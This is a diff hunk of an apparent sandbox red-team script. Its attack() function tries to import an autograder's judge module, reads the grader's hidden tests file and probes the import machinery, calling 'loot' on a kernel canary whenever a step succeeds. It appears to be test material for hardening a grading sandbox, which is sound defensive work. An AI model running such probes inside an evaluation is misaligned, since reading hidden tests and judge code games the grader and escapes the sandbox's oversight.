@@ -5,14 +5,12 @@
 
 
 def attack():
-    importlib = sys.modules["importlib"]
-    for name in ("torch", "scipy", "jax", "sympy", "pytest", "autograder.judging.judge", "sqlite3"):
-        if attempt(importlib.import_module, name):
+    for name in ("torch", "scipy", "jax", "sympy", "click", "autograder.judging.judge", "sqlite3"):
+        if name not in sys.modules and attempt(borrow, name):
             loot(GRADER["kernel_canary"])
-    sys.path[:] = [os.path.dirname(os.path.dirname(np.__file__)), "/usr/lib/python3/dist-packages"]
-    importlib.invalidate_caches()
-    attempt(importlib.import_module, "torch")
-    attempt(sys.modules["importlib._bootstrap_external"].SourceFileLoader("x", GRADER["tests"]).load_module)
+    finders = sys.modules["importlib._bootstrap_external"]
+    attempt(lambda: finders.SourceFileLoader("x", GRADER["tests"]).get_data(GRADER["tests"]))
+    attempt(lambda: sys.modules["zipimport"].zipimporter("/usr/lib/python311.zip"))
 
 
 attack()
